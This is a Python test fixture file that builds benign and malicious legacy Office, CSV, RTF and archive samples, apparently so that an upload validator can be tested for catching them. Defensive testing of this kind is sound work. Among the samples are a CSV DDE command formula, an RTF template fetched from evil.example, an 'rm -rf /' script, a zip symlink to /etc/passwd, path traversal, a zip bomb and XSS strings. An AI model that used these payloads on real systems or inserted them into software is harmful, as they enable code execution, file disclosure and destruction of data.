"""Old office files, texts and archives as programs write them, and such as are made to hurt."""

import stat
import struct
import zipfile
from collections.abc import Callable
from io import BytesIO

from tests.api.media.documents import Part, archived, docx, xlsx, zipped

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
BOF = b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(12)
EOF = struct.pack("<HH", 0x0A, 0)
MACRO_CONTENT = "word/vbaProject.bin"


def ole(*names: str, streams: tuple[bytes, ...] = ()) -> bytes:
    """A compound file: its directory, then its streams, a sector each or more."""
    entries = [_entry("Root Entry", 5), *(_entry(name, 2) for name in names)]
    parts = [b"".join(entries), *streams]
    header = OLE + bytes(16) + b"\x3e\0\3\0\xfe\xff\x09\0"
    return b"".join(part.ljust(-(-len(part) // 512) * 512, b"\0") for part in (header, *parts))


def _entry(name: str, kind: int) -> bytes:
    text = name.encode("utf-16-le") + b"\0\0"
    return (text.ljust(64, b"\0") + struct.pack("<HBB", len(text), kind, 1)).ljust(128, b"\0")


def sheets(*kinds: int, before: bytes = b"") -> bytes:
    """The beginning of a workbook with sheets of these kinds; 1 is one of old macros."""
    listed = b"".join(struct.pack("<HHIBBBB", 0x85, 9, 512, 0, kind, 1, 0) + b"A" for kind in kinds)
    return BOF + before + listed + EOF


def word(flags: int = 0) -> bytes:
    """The beginning of a text of Word."""
    return b"\xec\xa5\xc1\0" + bytes(6) + struct.pack("<H", flags)


def show(has_macros: int) -> bytes:
    """What a show of PowerPoint says of macros."""
    return b"\x1f\0\xff\3\x14\0\0\0\2\0\0\4\x0c\0\0\0" + struct.pack("<III", 1, has_macros, 2)


def linked() -> bytes:
    """A zip with a symbolic link."""
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        link = zipfile.ZipInfo("a.txt")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return file.getvalue()


DOC = ole("WordDocument", "1Table", streams=(word(),))
XLS = ole("Workbook", streams=(sheets(0, 0),))
PPT = ole("PowerPoint Document", "Current User", streams=(show(0),))
RTF = b"{\\rtf1\\ansi{\\info{\\title x}} Thong bao {\\pict\\wmetafile8 00}}"
CSV = "Họ tên,Thôn\r\nNguyễn Văn A,Đông\r\n".encode()
ZIP = zipped({"Biểu mẫu/Đơn.docx": docx(), "danh-sach.xls": XLS, "ảnh.jpg": b"\xff\xd8\xff"})

TAKEN: dict[str, tuple[bytes, str]] = {
    "to-trinh.doc": (DOC, "application/msword"),
    "BIEU.XLS": (XLS, "application/vnd.ms-excel"),
    "of 1995.xls": (ole("Book", streams=(sheets(0),)), "application/vnd.ms-excel"),
    "tap-huan.Ppt": (PPT, "application/vnd.ms-powerpoint"),
    "a text with a table in it.doc": (ole("WordDocument", "Workbook"), "application/msword"),
    "of which nothing is left.doc": (OLE + bytes(1_528), "application/msword"),
    "a.rtf": (RTF, "application/rtf"),
    "as word saves it.doc": (RTF, "application/rtf"),
    "a.csv": (CSV, "text/csv"),
    "with a mark.csv": (b"\xef\xbb\xbf" + CSV, "text/csv"),
    "of excel.csv": (CSV.decode().encode("utf-16"), "text/csv"),
    "of windows.csv": ("Họ tên".encode("cp1258", "replace"), "text/csv"),
    "a.txt": (CSV, "text/plain"),
    "of dos.TXT": (b"Thong bao\r\n\x1a", "text/plain"),
    "about a < b.txt": (b"<Ten> a < b, <br x", "text/plain"),
    "a.zip": (ZIP, "application/zip"),
    "of a mac.zip": (zipped({"__MACOSX/._a.txt": b"\0\5\x16\7", "a.txt": b"x"}), "application/zip"),
    "of windows.zip": (zipped({"a/Thumbs.db": ole("x"), "a/b.txt": b"x"}), "application/zip"),
    "a.rar": (b"Rar!\x1a\x07\x00" + bytes(60), "application/vnd.rar"),
    "new.rar": (b"Rar!\x1a\x07\x01\x00" + bytes(60), "application/vnd.rar"),
}

MACROS: dict[str, bytes] = {
    "a.doc": ole("WordDocument", "Macros", "VBA"),
    "in capitals.doc": ole("WordDocument", "_VBA_PROJECT"),
    "a.xls": ole("Workbook", "_VBA_PROJECT_CUR"),
    "a.ppt": ole("PowerPoint Document", streams=(show(1),)),
    "old macros.xls": ole("Workbook", streams=(sheets(0, 1),)),
    "hidden in the third sheet.xls": ole(
        "Workbook",
        streams=(bytes(512), sheets(0, 0, 1, before=struct.pack("<HH", 0xE1, 2) + b"\0\0")),
    ),
    "within a table in it.doc": ole("WordDocument", "Workbook", "_VBA_PROJECT_CUR"),
    "of a damaged directory.doc": OLE + bytes(507) + "_VBA_PROJECT".encode("utf-16-le"),
    "a module of a damaged directory.xls": OLE + bytes(600) + b"\0Attribut\0e VB_Nam",
    "an object.rtf": b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}",
    "an object that updates.doc": b"{\\rtf1{\\object\\objautlink\\objupdate}}",
    "a live field.rtf": b"{\\rtf1{\\field{\\*\\fldinst ddeauto c:\\\\windows}}}",
    "a template from elsewhere.rtf": b"{\\rtf1{\\*\\template http://evil.example/a.dot}}",
    "a cell that starts a program.csv": b"a,=cmd|'/C calc'!A0",
    "the same for excel.csv": "a\t=cmd|' /C calc'!A0".encode("utf-16"),
}

LOCKED: dict[str, bytes] = {
    "a.doc": ole("WordDocument", streams=(word(0x0100),)),
    "a.xls": ole("Workbook", streams=(sheets(0, before=struct.pack("<HH", 0x2F, 4) + bytes(4)),)),
    "a.ppt": ole("PowerPoint Document", "EncryptedSummary"),
    "a docx.doc": ole("EncryptionInfo", "EncryptedPackage"),
    "a.zip": archived([Part("a.txt", flags=0x801)]),
    "with a hidden directory.zip": archived([Part("a.txt", flags=0x2041)]),
}

MISNAMED: dict[str, bytes] = {
    "a table.doc": XLS,
    "a text.xls": DOC,
    "a show.doc": PPT,
    "a text": DOC,
    "a text.pdf": DOC,
    "a text.txt": RTF,
    "an archive.zip": b"Rar!\x1a\x07\x00" + bytes(60),
    "an archive.txt": b"Rar!\x1a\x07\x01\x00" + bytes(60),
}

PAGE = b"\xef\xbb\xbf\r\n<html><head><meta charset=utf-8><table><tr><td>x"
PAGES: dict[str, bytes] = {
    "bieu.xls": PAGE,
    "to-trinh.doc": b"<!DOCTYPE html><p>x",
    "of word.doc": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n",
    "of excel 2003.xls": b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>',
    "a.txt": PAGE,
    "a.csv": b"Ho ten,<script>alert(1)</script>",
    "for excel.csv": PAGE.decode().encode("utf-16"),
    "drawing.txt": b"<svg onload=alert(1)>",
    "tai-ve.pdf": b"<html><p>404</p></html>",
}

OTHERS: dict[str, bytes] = {
    "a program.doc": b"MZ\x90\0" + bytes(600),
    "a program.txt": b"MZ\x90\0" + bytes(600),
    "a program.zip": b"MZ\x90\0" + zipped({"a.txt": b"x"}),
    "a script.txt": b"#!/bin/sh\nrm -rf /\n",
    "binary.csv": b"a,b\0c",
    "half of its letters.csv": b"\xff\xfea\0b",
    "an installer.doc": ole("\u0005SummaryInformation", "Tables"),
    "a pdf that holds a table.xls": b"7z\xbc\xaf\x27\x1c" + bytes(60),
    "a zip.doc": zipped({"a.txt": b"x"}),
    "an empty zip.zip": zipped({}),
    "a docm.docm": docx({MACRO_CONTENT: b"x"}),
    "an xlsm.XLSM": xlsx({"xl/vbaProject.bin": b"x"}),
    "a link.zip": linked(),
    "two of one name.zip": archived([Part("a.txt"), Part("A.TXT")]),
    "above itself.zip": archived([Part("../a.txt")]),
    "a bomb.zip": zipped({"a.txt": bytes(30_000_000)}),
}

FORBIDDEN: dict[str, Callable[[], bytes]] = {
    "cai-dat.exe": lambda: b"x",
    "a/b/CAI-DAT.EXE": lambda: b"x",
    "Don.pdf.exe": lambda: b"x",
    "a.exe . ": lambda: b"x",
    "a.txt:b.exe": lambda: b"x",
    "a.js": lambda: b"x",
    "a.ps1": lambda: b"x",
    "a.vbs": lambda: b"x",
    "a.hta": lambda: b"x",
    "Don.lnk": lambda: b"x",
    "Trang.url": lambda: b"x",
    "a.html": lambda: b"x",
    "a.svg": lambda: b"x",
    "a.docm": lambda: b"x",
    "a.zip": lambda: zipped({"a.txt": b"x"}),
    "a.rar": lambda: b"x",
    "a.iso": lambda: b"x",
    "anh\u202egpj.txt": lambda: b"x",
    "a program.txt": lambda: b"MZ\x90\0",
    "a program.jpg": lambda: b"\x7fELF",
    "a link.txt": lambda: b"L\0\0\0\1\x14\2\0",
    "an archive.txt": lambda: zipped({"a.txt": b"x"}),
    "another.dat": lambda: b"Rar!\x1a\x07\x00",
    "with macros.docx": lambda: docx({MACRO_CONTENT: b"x"}),
    "with macros.doc": lambda: ole("WordDocument", "Macros"),
    "with a password.doc": lambda: ole("EncryptedPackage"),
}
